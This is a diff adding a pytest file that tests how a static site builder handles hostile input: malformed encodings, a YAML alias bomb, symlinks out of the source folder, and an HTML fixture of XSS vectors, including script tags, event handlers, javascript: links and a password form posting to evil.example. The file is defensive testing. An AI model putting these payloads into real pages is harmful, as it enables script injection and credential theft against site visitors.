@@ -1,0 +1,236 @@
+"""Hostile input: the build completes, each bad file is named, nothing executable reaches the site."""
+
+from __future__ import annotations
+
+import os
+import string
+import textwrap
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from builder.build import build
+from builder.clean import clean_article, load_rules
+from builder.config import Config, Paths, Settings
+from builder.model import Problem, SourceFile
+from builder.read import parse_source
+
+GOOD = "A good headline\n\nThe council met on Monday to discuss the budget. It approved the plan.\n"
+
+
+def run_build(project: Path, strict: bool = False):
+    paths = Paths.from_project(project)
+    return build(Settings(config=Config(), paths=paths, strict=strict, jobs=1))
+
+
+def problems_by_file(report) -> dict[str, str]:
+    return {problem.path: problem.reason for problem in report.problems}
+
+
+def write(seeds: Path, name: str, data: bytes | str) -> None:
+    path = seeds / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
+
+
+def test_broken_files_are_each_named_and_the_rest_builds(project):
+    seeds = project / "seeds"
+    write(seeds, "good.txt", GOOD)
+    write(seeds, "binary.txt", bytes(range(256)) * 4)
+    write(seeds, "png-named.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(200))
+    write(seeds, "invalid-utf8.txt", b"Headline\n\nCaf\xc3 au lait \xff\xfe is served.\n")
+    write(seeds, "windows-1252.txt", "Headline\n\nThe caf\xe9 opened on Monday.\n".encode("cp1252"))
+    write(seeds, "empty.txt", b"")
+    write(seeds, "blank.md", b"   \n\n  \n")
+    write(seeds, "bomb.md", "---\n" + "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
+        for i in range(20)
+    ) + "title: Bomb\n---\nBody text of the bomb article.\n")
+    write(seeds, "wrong-types.md", "---\ntitle: [1, 2]\ndate: {nested: true}\n---\nA body sentence here.\n")
+    write(seeds, "bad-yaml.md", "---\ntitle: 'unclosed\n  - : :\n---\nBody sentence.\n")
+    report = run_build(project)
+    named = problems_by_file(report)
+    for name in ["binary.txt", "png-named.md", "invalid-utf8.txt", "windows-1252.txt", "empty.txt", "blank.md",
+                 "bomb.md", "bad-yaml.md"]:
+        assert name in named, f"{name} was not reported: {named}"
+        assert named[name].strip(), f"{name} has no reason"
+    assert report.articles_built >= 1
+    assert (project / "output" / "index.html").is_file()
+
+
+def test_utf16_with_bom_is_read(project):
+    write(project / "seeds", "utf16.txt", "\ufeffA UTF-16 headline\n\nIts body is one sentence.\n".encode("utf-16"))
+    report = run_build(project)
+    assert report.articles_built == 1, problems_by_file(report)
+
+
+def test_strict_turns_any_problem_into_failure(project):
+    write(project / "seeds", "good.txt", GOOD)
+    write(project / "seeds", "empty.txt", b"")
+    from builder.errors import StrictModeError
+
+    with pytest.raises(StrictModeError, match="empty.txt"):
+        run_build(project, strict=True)
+
+
+def test_awkward_file_names_build_to_safe_pages(project):
+    seeds = project / "seeds"
+    names = [
+        "with spaces.txt",
+        "ünïcødé – naïve.txt",
+        "-leading-dash.txt",
+        "--help.txt",
+        "double..dots...txt",
+        ("x" * 240) + ".txt",
+        "sub dir/../nested.txt",
+    ]
+    for number, name in enumerate(names):
+        write(seeds, name.replace("sub dir/../", "sub dir/"), f"Same headline\n\nBody number {number} is here.\n")
+    report = run_build(project)
+    assert report.articles_built == len(names), problems_by_file(report)
+    pages = sorted((project / "output" / "articles").glob("*.html"))
+    article_pages = [p for p in pages if p.name != "index.html"]
+    assert len(article_pages) >= len(names)
+    for page in article_pages:
+        assert page.resolve().is_relative_to((project / "output").resolve())
+        assert len(page.name.encode()) <= 255
+
+
+def test_duplicate_headlines_get_distinct_stable_pages(project):
+    for name in ("a.txt", "b.txt", "c/d.txt"):
+        write(project / "seeds", name, f"Identical headline\n\nThe text of {name} differs.\n")
+    run_build(project)
+    first = sorted(p.name for p in (project / "output" / "articles").glob("identical-headline*.html"))
+    assert len(first) == 3
+    (project / "seeds" / "a.txt").unlink()
+    run_build(project)
+    second = sorted(p.name for p in (project / "output" / "articles").glob("identical-headline*.html"))
+    assert set(second) < set(first), "the remaining articles must keep their addresses"
+
+
+def test_symlink_out_of_the_seeds_folder_is_not_followed(project, tmp_path_factory):
+    outside = tmp_path_factory.mktemp("outside") / "secret.txt"
+    outside.write_text("Secret headline\n\nPrivate words that must not be published.\n")
+    write(project / "seeds", "good.txt", GOOD)
+    (project / "seeds" / "link.txt").symlink_to(outside)
+    (project / "seeds" / "linked-dir").symlink_to(outside.parent, target_is_directory=True)
+    report = run_build(project)
+    assert "link.txt" in problems_by_file(report)
+    site_text = "".join(p.read_text(errors="replace") for p in (project / "output").rglob("*.html"))
+    assert "Private words" not in site_text
+
+
+def test_huge_and_deep_inputs_do_not_crash(project):
+    seeds = project / "seeds"
+    write(seeds, "good.txt", GOOD)
+    sentence = "The committee discussed the proposal at length and agreed to meet again. "
+    write(seeds, "long-line.txt", "A long line\n\n" + sentence * (3_000_000 // len(sentence)) + "\n")
+    write(seeds, "twenty-mb.txt", "Huge\n\n" + (sentence + "\n") * (20_000_000 // len(sentence)))
+    write(seeds, "deep.html", "<html><head><title>Deep</title></head><body>" + "<div>" * 20000
+          + "<p>Deeply nested words are still words.</p>" + "</div>" * 20000 + "</body></html>")
+    write(seeds, "deep.md", "---\ntitle: Deep markdown\n---\n" + "<div>" * 20000 + "Text." + "</div>" * 20000)
+    report = run_build(project)
+    named = problems_by_file(report)
+    assert "good.txt" not in named
+    assert (project / "output" / "index.html").is_file()
+    assert "twenty-mb.txt" in named or report.articles_built >= 2
+
+
+HOSTILE_HTML = textwrap.dedent(
+    """\
+    <html><head><title>Hostile page</title>
+    <script>alert('head')</script></head>
+    <body><article>
+    <h1>Hostile page</h1>
+    <p onclick="alert('p')">The mayor said on Tuesday that the bridge will reopen in May.</p>
+    <p><img src="x" onerror="alert('img')" alt="A bridge"> Engineers inspected the bridge.</p>
+    <p><a href="javascript:alert('link')">Click here</a> and <a href="data:text/html,<script>alert(1)</script>">here</a>
+    for more details about the reopening of the bridge.</p>
+    <iframe src="https://evil.example/"></iframe>
+    <form action="https://evil.example/steal"><input name="password"></form>
+    <svg><script>alert('svg')</script><circle r="5" onload="alert('circle')"/></svg>
+    <object data="evil.swf"></object><embed src="evil.swf">
+    <p>Traffic will be diverted through the city centre until then, officials said.</p>
+    </article></body></html>
+    """
+)
+
+
+def assert_nothing_executable(output: Path) -> None:
+    static = (output / "static").resolve()
+    for page in output.rglob("*.html"):
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
+        for tag in soup.find_all(True):
+            for attribute, value in tag.attrs.items():
+                assert not attribute.lower().startswith("on"), f"{page}: <{tag.name} {attribute}>"
+                if attribute in ("href", "src", "action", "data", "formaction"):
+                    text = " ".join(value) if isinstance(value, list) else str(value)
+                    assert not text.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (
+                        f"{page}: {attribute}={text}"
+                    )
+            assert tag.name not in ("iframe", "object", "embed", "form", "input", "base"), f"{page}: <{tag.name}>"
+            if tag.name == "script":
+                source = tag.get("src")
+                if source is None:
+                    assert tag.get("type") in ("application/ld+json", "application/json"), (
+                        f"{page}: inline script {tag.string!r:.80}"
+                    )
+                    assert "alert(" not in (tag.string or "")
+                else:
+                    assert (page.parent / source).resolve().is_relative_to(static), f"{page}: script {source}"
+
+
+@pytest.mark.parametrize("name", ["hostile.html", "hostile.md"])
+def test_scripts_and_handlers_never_reach_the_site(project, name):
+    body = HOSTILE_HTML if name.endswith(".html") else "---\ntitle: Hostile post\n---\n" + HOSTILE_HTML
+    write(project / "seeds", name, body)
+    report = run_build(project)
+    assert report.articles_built == 1, problems_by_file(report)
+    assert_nothing_executable(project / "output")
+    text = (project / "output").joinpath("articles").glob("hostile*.html")
+    page = next(text).read_text(encoding="utf-8")
+    assert "bridge will reopen" in page
+
+
+WORDS = st.sampled_from(
+    "council budget river bridge mayor minister harvest winter village market school doctor railway "
+    "festival museum harbour engineer farmer lawyer teacher election senator storm flood".split()
+)
+
+
+@st.composite
+def sentences(draw) -> str:
+    words = draw(st.lists(WORDS, min_size=4, max_size=14))
+    return " ".join(words).capitalize() + "."
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    title=st.text(alphabet=string.ascii_letters + " ", min_size=3, max_size=40).filter(str.strip),
+    paragraphs=st.lists(st.lists(sentences(), min_size=1, max_size=4), min_size=1, max_size=6),
+)
+def test_fuzz_reading_and_cleaning_never_loses_a_sentence(title, paragraphs):
+    text = title + "\n\n" + "\n\n".join(" ".join(p) for p in paragraphs) + "\n"
+    for suffix, data in ((".txt", text), (".md", "---\ntitle: x\n---\n" + text)):
+        source = SourceFile(f"fuzz{suffix}", data.encode(), "0" * 64)
+        article = parse_source(source, Config())
+        assert not isinstance(article, Problem), article
+        cleaned = clean_article(article, load_rules(Path("/nonexistent-site")))
+        assert not isinstance(cleaned, Problem), cleaned
+        body = " ".join(block.text for block in cleaned.blocks)
+        for paragraph in paragraphs:
+            for sentence in paragraph:
+                assert sentence in body, f"lost {sentence!r}"
+
+
+@settings(max_examples=200, deadline=None)
+@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".txt", ".md", ".html"]))
+def test_fuzz_arbitrary_bytes_never_raise(data, suffix):
+    source = SourceFile(f"fuzz{suffix}", data, "0" * 64)
+    result = parse_source(source, Config())
+    if not isinstance(result, Problem):
+        cleaned = clean_article(result, load_rules(Path("/nonexistent-site")))
+        assert isinstance(cleaned, Problem) or cleaned.blocks
